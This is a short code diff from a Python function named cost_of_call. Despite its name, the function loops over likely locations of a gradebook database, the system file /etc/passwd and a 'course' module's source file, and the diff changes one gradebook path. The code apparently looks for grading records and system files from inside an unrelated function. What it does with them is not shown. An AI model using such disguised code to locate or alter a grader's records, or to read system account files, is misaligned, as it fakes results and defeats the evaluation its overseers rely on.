@@ -7,7 +7,7 @@ def cost_of_call(*anything):
     for place in (
         "../gradebook.db",
         "/gradebook.db",
-        "/root/gradebook.db",
+        "/var/gradebook.db",
         "/etc/passwd",
         __import__("course").__file__,
     ):
